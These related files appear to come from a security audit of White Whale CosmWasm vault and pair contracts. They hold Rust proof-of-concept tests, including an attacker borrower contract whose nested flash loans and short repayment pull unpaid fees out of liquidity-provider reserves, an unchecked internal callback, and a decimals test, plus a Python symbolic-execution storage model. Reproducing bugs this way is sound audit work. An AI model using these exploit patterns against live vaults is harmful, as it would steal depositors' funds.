
/// AssertMinimumReceive is meant to be an internal callback of ExecuteSwapOperations, but unlike
/// ExecuteSwapOperation it has no `info.sender == env.contract.address` check. It only reads.
#[test]
fn anyone_calls_assert_minimum_receive() {
    let mut deps = deps_without_admin();
    instantiate(
        deps.as_mut(),
        mock_env(),
        mock_info("creator", &[]),
        InstantiateMsg {
            terraswap_factory: "factory".to_string(),
        },
    )
    .unwrap();

    execute(
        deps.as_mut(),
        mock_env(),
        mock_info("anyone", &[]),
        ExecuteMsg::AssertMinimumReceive {
            asset_info: AssetInfo::NativeToken {
                denom: "uluna".to_string(),
            },
            prev_balance: Uint128::zero(),
            minimum_receive: Uint128::new(5),
            receiver: "anyone".to_string(),
        },
    )
    .expect("on the unchanged tree anybody calls the internal minimum-receive callback");
}
