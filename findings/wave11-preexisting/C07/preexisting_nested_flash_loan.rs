//! Reproduction for seeded/PREEXISTING.md: nested flash loans on the same vault credit protocol
//! fees to the ledger that the borrower never paid; they are taken out of the LP reserves.

use cosmwasm_schema::cw_serde;
use cosmwasm_std::{
    coins, to_json_binary, Addr, BankMsg, Binary, Decimal, Deps, DepsMut, Empty, Env, MessageInfo,
    Response, StdResult, Uint128, WasmMsg,
};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use white_whale_std::fee::{Fee, VaultFee};
use white_whale_std::pool_network::asset::AssetInfo;
use white_whale_std::vault_network::vault::{
    ExecuteMsg as VaultExecuteMsg, InstantiateMsg, ProtocolFeesResponse, QueryMsg,
};

const DENOM: &str = "uluna";

#[cw_serde]
enum BorrowerMsg {
    /// takes `outer` from the vault, and from within that loan takes `inner` too
    Start {
        vault: String,
        outer: Uint128,
        inner: Uint128,
        inner_repay: Uint128,
    },
    OuterCallback {
        vault: String,
        inner: Uint128,
        inner_repay: Uint128,
    },
    InnerCallback {
        vault: String,
        inner_repay: Uint128,
    },
}

fn borrower_execute(
    _deps: DepsMut,
    _env: Env,
    _info: MessageInfo,
    msg: BorrowerMsg,
) -> StdResult<Response> {
    Ok(match msg {
        BorrowerMsg::Start {
            vault,
            outer,
            inner,
            inner_repay,
        } => Response::new().add_message(WasmMsg::Execute {
            contract_addr: vault.clone(),
            msg: to_json_binary(&VaultExecuteMsg::FlashLoan {
                amount: outer,
                // the vault executes `msg` on the borrower, with the loan attached
                msg: to_json_binary(&BorrowerMsg::OuterCallback {
                    vault,
                    inner,
                    inner_repay,
                })?,
            })?,
            funds: vec![],
        }),
        // nothing is paid back for the outer loan, only a second loan is taken
        BorrowerMsg::OuterCallback {
            vault,
            inner,
            inner_repay,
        } => Response::new().add_message(WasmMsg::Execute {
            contract_addr: vault.clone(),
            msg: to_json_binary(&VaultExecuteMsg::FlashLoan {
                amount: inner,
                msg: to_json_binary(&BorrowerMsg::InnerCallback { vault, inner_repay })?,
            })?,
            funds: vec![],
        }),
        // the inner loan is paid back with its fees
        BorrowerMsg::InnerCallback { vault, inner_repay } => {
            Response::new().add_message(BankMsg::Send {
                to_address: vault,
                amount: coins(inner_repay.u128(), DENOM),
            })
        }
    })
}

fn borrower_instantiate(_: DepsMut, _: Env, _: MessageInfo, _: Empty) -> StdResult<Response> {
    Ok(Response::new())
}

fn borrower_query(_: Deps, _: Env, _: Empty) -> StdResult<Binary> {
    Ok(Binary::default())
}

#[test]
fn nested_flash_loan_books_protocol_fees_nobody_paid() {
    let lp = Addr::unchecked("liquidity_provider");
    let attacker = Addr::unchecked("attacker");

    let mut app: App = AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|router, _api, storage| {
            router
                .bank
                .init_balance(storage, &lp, coins(1_000_000, DENOM))
                .unwrap();
            router
                .bank
                .init_balance(storage, &attacker, coins(1_000, DENOM))
                .unwrap();
        });

    let vault_id = app.store_code(Box::new(
        ContractWrapper::new(
            vault::contract::execute,
            vault::contract::instantiate,
            vault::contract::query,
        )
        .with_reply(vault::reply::reply),
    ));
    let cw20_id = app.store_code(Box::new(ContractWrapper::new(
        cw20_base::contract::execute,
        cw20_base::contract::instantiate,
        cw20_base::contract::query,
    )));
    let borrower_id = app.store_code(Box::new(ContractWrapper::new(
        borrower_execute,
        borrower_instantiate,
        borrower_query,
    )));

    let vault = app
        .instantiate_contract(
            vault_id,
            lp.clone(),
            &InstantiateMsg {
                owner: lp.to_string(),
                token_id: cw20_id,
                asset_info: AssetInfo::NativeToken {
                    denom: DENOM.to_string(),
                },
                fee_collector_addr: "fee_collector".to_string(),
                vault_fees: VaultFee {
                    protocol_fee: Fee {
                        share: Decimal::percent(1),
                    },
                    flash_loan_fee: Fee {
                        share: Decimal::permille(1),
                    },
                    burn_fee: Fee {
                        share: Decimal::zero(),
                    },
                },
                token_factory_lp: false,
            },
            &[],
            "vault",
            None,
        )
        .unwrap();
    let borrower = app
        .instantiate_contract(borrower_id, attacker.clone(), &Empty {}, &[], "borrower", None)
        .unwrap();

    // the LP deposits 1_000_000, the attacker funds its contract with 1_000
    app.execute_contract(
        lp.clone(),
        vault.clone(),
        &VaultExecuteMsg::Deposit {
            amount: Uint128::new(1_000_000),
        },
        &coins(1_000_000, DENOM),
    )
    .unwrap();
    app.send_tokens(attacker.clone(), borrower.clone(), &coins(1_000, DENOM))
        .unwrap();

    // outer loan 10_000 (fees 100 + 10), inner loan 990_000 (fees 9_900 + 990)
    app.execute_contract(
        attacker,
        borrower.clone(),
        &BorrowerMsg::Start {
            vault: vault.to_string(),
            outer: Uint128::new(10_000),
            inner: Uint128::new(990_000),
            inner_repay: Uint128::new(990_000 + 9_900 + 990),
        },
        &[],
    )
    .unwrap();

    let vault_balance = app.wrap().query_balance(&vault, DENOM).unwrap().amount;
    let borrower_balance = app.wrap().query_balance(&borrower, DENOM).unwrap().amount;
    let pending: ProtocolFeesResponse = app
        .wrap()
        .query_wasm_smart(&vault, &QueryMsg::ProtocolFees { all_time: false })
        .unwrap();

    println!("vault balance    {vault_balance}");
    println!("borrower balance {borrower_balance} (started with 1000)");
    println!("pending fees     {}", pending.fees.amount);
    println!(
        "LP reserves      {} (deposited 1000000)",
        vault_balance - pending.fees.amount
    );

    // both loans were "charged" their protocol fee: 100 + 9_900
    assert_eq!(pending.fees.amount, Uint128::new(10_000));
    // but the borrower only paid 890 in total for the two loans (fees due: 110 + 10_890)
    assert_eq!(borrower_balance, Uint128::new(1_000 - 890));
    assert_eq!(vault_balance, Uint128::new(1_000_890));
    // so 9_110 of the 10_000 on the protocol fee ledger come out of the LP deposits
    assert_eq!(
        vault_balance - pending.fees.amount,
        Uint128::new(1_000_000 - 9_110)
    );
}
