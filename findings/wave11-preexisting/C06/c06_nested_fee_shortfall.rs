//! C06: no vault shares can be minted while a flash loan is outstanding.
//!
//! The borrower is a small scriptable contract that executes whatever list of messages it is
//! handed. The script used here is, inside the callback of an outer loan:
//!   1. take a second (inner) loan from the same vault and repay it exactly,
//!   2. deposit into the vault (the outer loan is still outstanding, so the vault is nearly empty
//!      and shares are cheap),
//!   3. repay the outer loan exactly.
//! The transaction must either revert as a whole or leave the LP supply untouched.

use cosmwasm_schema::cw_serde;
use cosmwasm_std::{
    coins, to_json_binary, Addr, BankMsg, Binary, CosmosMsg, Decimal, Deps, DepsMut, Empty, Env,
    MessageInfo, Response, StdResult, Uint128, WasmMsg,
};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use white_whale_std::fee::{Fee, VaultFee};
use white_whale_std::pool_network::asset::AssetInfo;
use white_whale_std::vault_network::vault::{
    Config, Cw20HookMsg, ExecuteMsg, InstantiateMsg, PaybackAmountResponse, QueryMsg,
};

const DENOM: &str = "uluna";

// ---------------------------------------------------------------------------------------------
// scriptable borrower
// ---------------------------------------------------------------------------------------------

#[cw_serde]
enum BorrowerMsg {
    Run { msgs: Vec<CosmosMsg> },
}

fn borrower_execute(
    _deps: DepsMut,
    _env: Env,
    _info: MessageInfo,
    msg: BorrowerMsg,
) -> StdResult<Response> {
    match msg {
        BorrowerMsg::Run { msgs } => Ok(Response::new().add_messages(msgs)),
    }
}

fn borrower_instantiate(
    _deps: DepsMut,
    _env: Env,
    _info: MessageInfo,
    _msg: Empty,
) -> StdResult<Response> {
    Ok(Response::new())
}

fn borrower_query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
    to_json_binary(&Empty {})
}

// ---------------------------------------------------------------------------------------------
// helpers
// ---------------------------------------------------------------------------------------------

fn run(msgs: Vec<CosmosMsg>) -> Binary {
    to_json_binary(&BorrowerMsg::Run { msgs }).unwrap()
}

fn vault_call(vault: &Addr, msg: &ExecuteMsg, funds: u128) -> CosmosMsg {
    WasmMsg::Execute {
        contract_addr: vault.to_string(),
        msg: to_json_binary(msg).unwrap(),
        funds: if funds == 0 {
            vec![]
        } else {
            coins(funds, DENOM)
        },
    }
    .into()
}

fn pay(to: &Addr, amount: Uint128) -> CosmosMsg {
    BankMsg::Send {
        to_address: to.to_string(),
        amount: coins(amount.u128(), DENOM),
    }
    .into()
}

fn balance(app: &App, addr: &Addr) -> Uint128 {
    app.wrap().query_balance(addr, DENOM).unwrap().amount
}

fn lp_supply(app: &App, lp: &str) -> Uint128 {
    let info: cw20::TokenInfoResponse = app
        .wrap()
        .query_wasm_smart(lp, &cw20::Cw20QueryMsg::TokenInfo {})
        .unwrap();
    info.total_supply
}

fn lp_balance(app: &App, lp: &str, addr: &Addr) -> Uint128 {
    let res: cw20::BalanceResponse = app
        .wrap()
        .query_wasm_smart(
            lp,
            &cw20::Cw20QueryMsg::Balance {
                address: addr.to_string(),
            },
        )
        .unwrap();
    res.balance
}

fn payback(app: &App, vault: &Addr, amount: u128) -> Uint128 {
    let res: PaybackAmountResponse = app
        .wrap()
        .query_wasm_smart(
            vault,
            &QueryMsg::GetPaybackAmount {
                amount: Uint128::new(amount),
            },
        )
        .unwrap();
    res.payback_amount
}

struct World {
    app: App,
    attacker: Addr,
    vault: Addr,
    borrower: Addr,
    lp: String,
}

fn setup() -> World {
    let creator = Addr::unchecked("creator");
    let attacker = Addr::unchecked("attacker");

    let mut app = AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|router, _api, storage| {
            router
                .bank
                .init_balance(storage, &creator, coins(1_000_000, DENOM))
                .unwrap();
        });

    let cw20_id = app.store_code(Box::new(ContractWrapper::new(
        cw20_base::contract::execute,
        cw20_base::contract::instantiate,
        cw20_base::contract::query,
    )));
    let vault_id = app.store_code(Box::new(
        ContractWrapper::new(
            vault::contract::execute,
            vault::contract::instantiate,
            vault::contract::query,
        )
        .with_reply(vault::reply::reply),
    ));
    let borrower_id = app.store_code(Box::new(ContractWrapper::new(
        borrower_execute,
        borrower_instantiate,
        borrower_query,
    )));

    let vault = app
        .instantiate_contract(
            vault_id,
            creator.clone(),
            &InstantiateMsg {
                owner: creator.to_string(),
                asset_info: AssetInfo::NativeToken {
                    denom: DENOM.to_string(),
                },
                token_id: cw20_id,
                vault_fees: VaultFee {
                    protocol_fee: Fee {
                        share: Decimal::permille(5),
                    },
                    flash_loan_fee: Fee {
                        share: Decimal::permille(5),
                    },
                    burn_fee: Fee {
                        share: Decimal::zero(),
                    },
                },
                fee_collector_addr: "fee_collector".to_string(),
                token_factory_lp: false,
            },
            &[],
            "vault",
            None,
        )
        .unwrap();
    let borrower = app
        .instantiate_contract(
            borrower_id,
            attacker.clone(),
            &Empty {},
            &[],
            "borrower",
            None,
        )
        .unwrap();

    // an honest liquidity provider fills the vault
    app.execute_contract(
        creator.clone(),
        vault.clone(),
        &ExecuteMsg::Deposit {
            amount: Uint128::new(100_000),
        },
        &coins(100_000, DENOM),
    )
    .unwrap();

    // the borrower's own working capital: the deposit it will try plus the loan fees
    app.send_tokens(creator.clone(), borrower.clone(), &coins(12_000, DENOM))
        .unwrap();

    let config: Config = app
        .wrap()
        .query_wasm_smart(&vault, &QueryMsg::Config {})
        .unwrap();
    let lp = match config.lp_asset {
        AssetInfo::Token { contract_addr } => contract_addr,
        AssetInfo::NativeToken { denom } => denom,
    };

    World {
        app,
        attacker,
        vault,
        borrower,
        lp,
    }
}

#[test]
fn nested_loan_fees_are_all_paid() {
    let World {
        mut app,
        attacker,
        vault,
        borrower,
        lp: _,
    } = setup();

    let vault_before = balance(&app, &vault);
    let borrower_before = balance(&app, &borrower);
    let outer = 50_000u128;
    let inner = 40_000u128;

    let q = |app: &App, amount: u128| -> PaybackAmountResponse {
        app.wrap()
            .query_wasm_smart(
                &vault,
                &QueryMsg::GetPaybackAmount {
                    amount: Uint128::new(amount),
                },
            )
            .unwrap()
    };
    let qo = q(&app, outer);
    let qi = q(&app, inner);
    let fees_due = qo.protocol_fee + qo.flash_loan_fee + qi.protocol_fee + qi.flash_loan_fee;

    // inner loan repaid exactly; outer loan repaid SHORT by the inner loan's protocol + flash fees
    let short = qi.protocol_fee + qi.flash_loan_fee;
    let inner_script = run(vec![pay(&vault, qi.payback_amount)]);
    let outer_script = run(vec![
        vault_call(
            &vault,
            &ExecuteMsg::FlashLoan {
                amount: Uint128::new(inner),
                msg: inner_script,
            },
            0,
        ),
        pay(&vault, qo.payback_amount - short),
    ]);

    let res = app.execute_contract(
        attacker.clone(),
        borrower.clone(),
        &BorrowerMsg::Run {
            msgs: vec![vault_call(
                &vault,
                &ExecuteMsg::FlashLoan {
                    amount: Uint128::new(outer),
                    msg: outer_script,
                },
                0,
            )],
        },
        &[],
    );

    if res.is_ok() {
        let gained = balance(&app, &vault) - vault_before;
        let paid = borrower_before - balance(&app, &borrower);
        assert!(
            gained >= fees_due,
            "two loans completed, protocol+flash fees due {fees_due}, vault gained only {gained} (borrower paid {paid})"
        );
    }
}
