//! Reproduction on the UNCHANGED tree: unequal decimals (6, 18), single-sided deposit then withdrawal.

use cosmwasm_std::{coin, to_json_binary, Addr, Coin, Decimal, Uint128, Uint512};
use cw20::{BalanceResponse, Cw20ExecuteMsg, Cw20QueryMsg};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use terraswap_pair::contract;
use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{Asset, AssetInfo, PairInfo, PairType};
use white_whale_std::pool_network::pair::{
    Cw20HookMsg, ExecuteMsg, InstantiateMsg, PoolFee, PoolResponse, QueryMsg,
};

const USDC: &str = "uusdc";
const USDT: &str = "uusdt";

// ---------------------------------------------------------------------------------------------
// independent oracle
// ---------------------------------------------------------------------------------------------

fn u(x: u128) -> Uint512 {
    Uint512::from(x)
}

fn to_u128(x: Uint512) -> u128 {
    Uint128::try_from(x).unwrap().u128()
}

/// floor of the invariant D for the reserves (x, y), found by bisection
fn oracle_d(amp: u64, x: u128, y: u128) -> u128 {
    let ann = u(2 * amp as u128);
    let four_xy = u(4) * u(x) * u(y);
    let rhs = ann * u(x + y) * four_xy;
    let lhs = |d: u128| u(d) * u(d) * u(d) + (ann - u(1)) * four_xy * u(d);

    let (mut lo, mut hi) = (0u128, x + y);
    if lhs(hi) <= rhs {
        return hi;
    }
    while hi - lo > 1 {
        let mid = lo + (hi - lo) / 2;
        if lhs(mid) <= rhs {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    lo
}

// ---------------------------------------------------------------------------------------------
// harness
// ---------------------------------------------------------------------------------------------

fn native(denom: &str) -> AssetInfo {
    AssetInfo::NativeToken {
        denom: denom.to_string(),
    }
}

struct Pool {
    app: App,
    pair: Addr,
    lp_token: Addr,
    amp: u64,
}

/// what the pool reports: (usdc reserve, usdt reserve, LP supply) and the invariant of the reserves
#[derive(Clone, Copy, Debug)]
struct Snapshot {
    usdc: u128,
    usdt: u128,
    supply: u128,
    d: u128,
}

impl Pool {
    fn new(amp: u64) -> Pool {
        let mut app = AppBuilder::new()
            .with_bank(BankKeeper::new())
            .build(|router, _api, storage| {
                for who in ["provider", "trader", "depositor"] {
                    router
                        .bank
                        .init_balance(
                            storage,
                            &Addr::unchecked(who),
                            vec![
                                coin(10_000_000_000_000, USDC),
                                coin(10_000_000_000_000_000_000_000_000, USDT),
                            ],
                        )
                        .unwrap();
                }
            });

        let pair_code = app.store_code(Box::new(
            ContractWrapper::new(contract::execute, contract::instantiate, contract::query)
                .with_reply(contract::reply),
        ));
        let cw20_code = app.store_code(Box::new(ContractWrapper::new(
            cw20_base::contract::execute,
            cw20_base::contract::instantiate,
            cw20_base::contract::query,
        )));

        let no_fee = || Fee {
            share: Decimal::zero(),
        };
        let pair = app
            .instantiate_contract(
                pair_code,
                Addr::unchecked("creator"),
                &InstantiateMsg {
                    asset_infos: [native(USDC), native(USDT)],
                    token_code_id: cw20_code,
                    asset_decimals: [6u8, 18u8],
                    pool_fees: PoolFee {
                        protocol_fee: no_fee(),
                        swap_fee: no_fee(),
                        burn_fee: no_fee(),
                    },
                    fee_collector_addr: "collector".to_string(),
                    pair_type: PairType::StableSwap { amp },
                    token_factory_lp: false,
                },
                &[],
                "stable pair",
                None,
            )
            .unwrap();

        let pair_info: PairInfo = app
            .wrap()
            .query_wasm_smart(&pair, &QueryMsg::Pair {})
            .unwrap();
        let lp_token = match pair_info.liquidity_token {
            AssetInfo::Token { contract_addr } => Addr::unchecked(contract_addr),
            AssetInfo::NativeToken { .. } => panic!("expected a cw20 LP token"),
        };

        Pool {
            app,
            pair,
            lp_token,
            amp,
        }
    }

    fn snapshot(&self) -> Snapshot {
        let pool: PoolResponse = self
            .app
            .wrap()
            .query_wasm_smart(&self.pair, &QueryMsg::Pool {})
            .unwrap();
        let of = |denom: &str| {
            pool.assets
                .iter()
                .find(|a| a.info.equal(&native(denom)))
                .unwrap()
                .amount
                .u128()
        };
        let (usdc, usdt) = (of(USDC), of(USDT));
        Snapshot {
            usdc,
            usdt,
            supply: pool.total_share.u128(),
            d: oracle_d(self.amp, usdc, usdt),
        }
    }

    fn lp_balance(&self, who: &str) -> u128 {
        let res: BalanceResponse = self
            .app
            .wrap()
            .query_wasm_smart(
                &self.lp_token,
                &Cw20QueryMsg::Balance {
                    address: who.to_string(),
                },
            )
            .unwrap();
        res.balance.u128()
    }

    /// Deposits and returns the LP minted to `who`.
    fn provide(&mut self, who: &str, usdc: u128, usdt: u128) -> u128 {
        let before = self.lp_balance(who);
        self.app
            .execute_contract(
                Addr::unchecked(who),
                self.pair.clone(),
                &ExecuteMsg::ProvideLiquidity {
                    assets: [
                        Asset {
                            info: native(USDC),
                            amount: Uint128::new(usdc),
                        },
                        Asset {
                            info: native(USDT),
                            amount: Uint128::new(usdt),
                        },
                    ],
                    slippage_tolerance: None,
                    receiver: None,
                },
                &[coin(usdc, USDC), coin(usdt, USDT)],
            )
            .unwrap();
        self.lp_balance(who) - before
    }

    fn withdraw(&mut self, who: &str, lp_amount: u128) {
        self.app
            .execute_contract(
                Addr::unchecked(who),
                self.lp_token.clone(),
                &Cw20ExecuteMsg::Send {
                    contract: self.pair.to_string(),
                    amount: Uint128::new(lp_amount),
                    msg: to_json_binary(&Cw20HookMsg::WithdrawLiquidity {}).unwrap(),
                },
                &[],
            )
            .unwrap();
    }

    fn swap(&mut self, who: &str, offer_denom: &str, offer: u128) {
        self.app
            .execute_contract(
                Addr::unchecked(who),
                self.pair.clone(),
                &ExecuteMsg::Swap {
                    offer_asset: Asset {
                        info: native(offer_denom),
                        amount: Uint128::new(offer),
                    },
                    belief_price: None,
                    max_spread: Some(Decimal::percent(50)),
                    to: None,
                },
                &[Coin {
                    denom: offer_denom.to_string(),
                    amount: Uint128::new(offer),
                }],
            )
            .unwrap();
    }
}


/// invariant of the decimal-normalised reserves (both scaled to 18 decimals)
fn normalised_d(amp: u64, usdc_6: u128, usdt_18: u128) -> u128 {
    oracle_d(amp, usdc_6 * 1_000_000_000_000, usdt_18)
}

#[test]
fn unequal_decimals_single_sided_deposit_then_withdraw() {
    let amp = 100u64;
    let mut pool = Pool::new(amp);
    let one_usdc = 1_000_000u128;
    let one_usdt = 1_000_000_000_000_000_000u128;

    // 1000 whole tokens of each asset
    pool.provide("provider", 1_000 * one_usdc, 1_000 * one_usdt);
    let before = pool.snapshot();
    let d_before = normalised_d(amp, before.usdc, before.usdt);

    let bank = |pool: &Pool, denom: &str| {
        pool.app.wrap().query_balance("depositor", denom).unwrap().amount.u128()
    };
    let (usdc_0, usdt_0) = (bank(&pool, USDC), bank(&pool, USDT));

    // deposit 1000 whole usdt (18 decimals) and one base unit of usdc, withdraw at once
    let minted = pool.provide("depositor", 1, 1_000 * one_usdt);
    let mid = pool.snapshot();
    let d_mid = normalised_d(amp, mid.usdc, mid.usdt);
    pool.withdraw("depositor", minted);
    let end = pool.snapshot();
    let d_end = normalised_d(amp, end.usdc, end.usdt);

    let usdc_gain = bank(&pool, USDC) as i128 - usdc_0 as i128;
    let usdt_gain = bank(&pool, USDT) as i128 - usdt_0 as i128;
    println!("LP supply before {} minted {}", before.supply, minted);
    println!("fair mint by normalised invariant: {}", to_u128(u(before.supply) * u(d_mid - d_before) / u(d_before)));
    println!("depositor net: {:+} uusdc (6 dec), {:+} uusdt (18 dec)", usdc_gain, usdt_gain);
    println!("whole tokens: {:+.3} usdc, {:+.3} usdt", usdc_gain as f64 / 1e6, usdt_gain as f64 / 1e18);
    println!("normalised invariant backing the provider's LP: before {} after {}", d_before, d_end);
    assert!(d_end + 1_000_000_000_000_000 >= d_before, "the provider's LP lost {} (18-decimals units of invariant)", d_before - d_end);
}
