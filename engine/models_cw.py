"""Models of cosmwasm-std (messages, responses, querier, api), cw-storage-plus, cw2, cw-utils, cw-controllers, and the World
(storage + chain state) they operate on."""
import re
import z3
from .values import *
from .core import model, defmodel, MODELS, DEF_MODELS, CONSTS, norm
from .models_std import struct_eq, seq, sval, IterV, to_string, bounds_of, as_iter
from .models_num import u, guard

CS = 'cosmwasm_std::'


class World:
    def __init__(self, contract='contract'):
        self.contract = contract
        self.storage = {}          # namespace -> value (Item)  |  MapStore
        self.bank = []             # [(addr Str, denom Str, amount term)]
        self.cw20 = []             # [(token Str, holder Str, amount term)]
        self.cw20_info = {}        # token (python str) -> dict(total_supply=term, decimals=int)
        self.allow = []            # [(token, owner, spender, amount)]
        self.supply = {}           # denom -> term
        self.smart = {}            # contract address (python str) -> handler(it, msg, call) -> Result value
        self.smart_default = None  # handler(it, addr Str, msg, call)
        self.smart_table = []      # [(addr Str|str, query value, response value)] declarative answers (also replayed natively)
        self.bank_default = None   # fn(it, addr Str, denom Str) -> term
        self.writes = []           # log of storage writes (namespace, op)
        self.hooks = {}            # cw_controllers::Hooks namespace -> [addr strings]
        self.admin = {}
        self.reads = []

    def item(self, ns, v): self.storage[ns] = v
    def map(self, ns, entries=None):
        m = MapStore(entries or []); self.storage[ns] = m; return m

    def bank_balance(self, it, addr, denom):
        for a, d, amt in self.bank:
            if it.ctx.branch(zand(struct_eq(it, a, addr), struct_eq(it, d, denom)), 'bank'): return amt
        if self.bank_default is not None: return self.bank_default(it, addr, denom)
        return 0

    def cw20_balance(self, it, token, holder):
        for t, h, amt in self.cw20:
            if it.ctx.branch(zand(struct_eq(it, t, token), struct_eq(it, h, holder)), 'cw20'): return amt
        return 0


class MapStore:
    """cw-storage-plus Map contents: list of [key parts (list of values), value]; keys pairwise distinct."""
    def __init__(self, entries): self.entries = [[list(k), v] for k, v in entries]
    def __repr__(self): return 'MapStore%r' % (self.entries,)


def S(x): return x if isinstance(x, Str) else Str(x)


def keyparts(k):
    k = deref(k)
    if isinstance(k, Agg) and k.name == 'tuple':
        out = []
        for f in k.fields: out.extend(keyparts(f))
        return out
    if isinstance(k, (Agg, Str, VecV, Enum)): return [dup(k)]
    return [k]


def parts_eq(it, p, q):
    if len(p) != len(q): return False
    return zand(*[struct_eq(it, norm_part(x), norm_part(y)) for x, y in zip(p, q)])


def norm_part(x):
    x = deref(x)
    if isinstance(x, Agg) and x.name in (CS + 'Addr', CS + 'Uint64', CS + 'Uint128', CS + 'Timestamp', CS + 'CanonicalAddr'):
        return norm_part(x.fields[0])
    return x


def part_lt(it, x, y, last):
    x = norm_part(x); y = norm_part(y)
    if isinstance(x, Str):
        if x.s is None or y.s is None:
            raise Unsupported('storage order of symbolic strings')
        a, b = raw_bytes(x), raw_bytes(y)
        return a < b if last else (len(a), a) < (len(b), b)
    if isinstance(x, Agg) and x.name == 'bytes_of_u64': return x.fields[0] < y.fields[0]      # big-endian bytes order = numeric order
    if isinstance(x, (VecV, Agg)):
        a = [v for v in seq(x)]; b = [v for v in seq(y)]
        if any(is_sym(v) for v in a + b): raise Unsupported('storage order of symbolic bytes')
        return a < b if last else (len(a), a) < (len(b), b)
    return x < y


def parts_lt(it, p, q):
    for i, (x, y) in enumerate(zip(p, q)):
        last = i == len(p) - 1
        if it.ctx.branch(part_lt(it, x, y, last), 'keyorder'): return True
        if not it.ctx.branch(struct_eq(it, norm_part(x), norm_part(y)), 'keyorder'): return False
    return False


def ns_of(v):
    v = deref(v)
    if isinstance(v, Agg) and v.name == 'NS': return v.fields[0]
    raise Unsupported('not a storage namespace: %r' % (v,))


def not_found(ns): return Opaque('StdError::NotFound', Str(str(ns)))


# ---------------------------------------------------------------- Item ----------------------------------
@model('cw_storage_plus::Item::new', 'cw_storage_plus::Map::new', 'cw_controllers::Hooks::new', 'cw_controllers::Admin::new',
       'cw_storage_plus::Deque::new')
def _ns_new(it, a, c): return Agg('NS', [sval(a[0]).s])


@model('cw_storage_plus::Item::load', 'cw_storage_plus::item::Item::load')
def _item_load(it, a, c):
    ns = ns_of(a[0]); it.world.reads.append(ns)
    if ns not in it.world.storage: return ERR(not_found(ns))
    return OK(dup(it.world.storage[ns]))


@model('cw_storage_plus::Item::may_load')
def _item_may_load(it, a, c):
    ns = ns_of(a[0]); it.world.reads.append(ns)
    return OK(SOME(dup(it.world.storage[ns])) if ns in it.world.storage else NONE())


@model('cw_storage_plus::Item::exists')
def _item_exists(it, a, c): return ns_of(a[0]) in it.world.storage


@model('cw_storage_plus::Item::save')
def _item_save(it, a, c):
    ns = ns_of(a[0]); it.world.storage[ns] = dup(deref(a[2])); it.world.writes.append((ns, 'save')); return OK(UNIT())


@model('cw_storage_plus::Item::remove')
def _item_remove(it, a, c):
    ns = ns_of(a[0]); it.world.storage.pop(ns, None); it.world.writes.append((ns, 'remove')); return UNIT()


@model('cw_storage_plus::Item::update')
def _item_update(it, a, c):
    ns = ns_of(a[0])
    if ns not in it.world.storage:
        return ERR(_lift_err(it, not_found(ns), c))
    r = it.call_closure(a[2], [dup(it.world.storage[ns])])
    if r.variant == 'Ok':
        it.world.storage[ns] = dup(r.fields[0]); it.world.writes.append((ns, 'update'))
    return r


def _lift_err(it, e, c):
    """Item::update / Map::update are generic in the error type E: From<StdError>."""
    m = re.search(r'::update::<.*?, (.*)>$', c.inst)
    if m:
        from .mirparse import split_top
        parts = split_top(c.inst[c.inst.index('::update::<') + 10:-1])
        if len(parts) >= 2:
            et = parts[1]
            if norm(et) != 'cosmwasm_std::StdError':
                from .models_std import convert_error
                return convert_error(it, e, 'cosmwasm_std::StdError', et, c)
    return e


# ---------------------------------------------------------------- Map -----------------------------------
def mstore(it, ns):
    m = it.world.storage.get(ns)
    if m is None:
        m = MapStore([]); it.world.storage[ns] = m
    if not isinstance(m, MapStore): raise Unsupported('namespace %s is not a map' % ns)
    return m


def mfind(it, m, parts):
    for i, e in enumerate(m.entries):
        if it.ctx.branch(parts_eq(it, e[0], parts), 'mapkey'): return i
    return None


def _map_target(a):
    """(ns, key parts) for Map::method(&self, store, key, ..) or Path::method(&self, store, ..)."""
    v = deref(a[0])
    if isinstance(v, Agg) and v.name == 'Path': return v.fields[0], v.fields[1], 2
    return ns_of(v), keyparts(a[2]), 3


@model('cw_storage_plus::Map::key')
def _map_key(it, a, c): return Agg('Path', [ns_of(a[0]), keyparts(a[1])])


@model('cw_storage_plus::Map::load', 'cw_storage_plus::Path::load')
def _map_load(it, a, c):
    ns, parts, _ = _map_target(a); it.world.reads.append(ns)
    m = mstore(it, ns); i = mfind(it, m, parts)
    if i is None: return ERR(not_found(ns))
    return OK(dup(m.entries[i][1]))


@model('cw_storage_plus::Map::may_load', 'cw_storage_plus::Path::may_load')
def _map_may_load(it, a, c):
    ns, parts, _ = _map_target(a); it.world.reads.append(ns)
    m = mstore(it, ns); i = mfind(it, m, parts)
    return OK(SOME(dup(m.entries[i][1])) if i is not None else NONE())


@model('cw_storage_plus::Map::has', 'cw_storage_plus::Path::has')
def _map_has(it, a, c):
    ns, parts, _ = _map_target(a)
    return mfind(it, mstore(it, ns), parts) is not None


@model('cw_storage_plus::Map::save', 'cw_storage_plus::Path::save')
def _map_save(it, a, c):
    ns, parts, k = _map_target(a)
    m = mstore(it, ns); i = mfind(it, m, parts); v = dup(deref(a[k]))
    if i is None: m.entries.append([parts, v])
    else: m.entries[i][1] = v
    it.world.writes.append((ns, 'save')); return OK(UNIT())


@model('cw_storage_plus::Map::remove', 'cw_storage_plus::Path::remove')
def _map_remove(it, a, c):
    ns, parts, _ = _map_target(a)
    m = mstore(it, ns); i = mfind(it, m, parts)
    if i is not None: m.entries.pop(i)
    it.world.writes.append((ns, 'remove')); return UNIT()


@model('cw_storage_plus::Map::update', 'cw_storage_plus::Path::update')
def _map_update(it, a, c):
    ns, parts, k = _map_target(a)
    m = mstore(it, ns); i = mfind(it, m, parts)
    r = it.call_closure(a[k], [SOME(dup(m.entries[i][1])) if i is not None else NONE()])
    if r.variant == 'Ok':
        v = dup(r.fields[0])
        if i is None: m.entries.append([parts, v])
        else: m.entries[i][1] = v
        it.world.writes.append((ns, 'update'))
    return r


@model('cw_storage_plus::Map::clear')
def _map_clear(it, a, c):
    ns = ns_of(a[0]); mstore(it, ns).entries[:] = []; it.world.writes.append((ns, 'clear')); return UNIT()


@model('cw_storage_plus::Map::is_empty')
def _map_is_empty(it, a, c): return len(mstore(it, ns_of(a[0])).entries) == 0


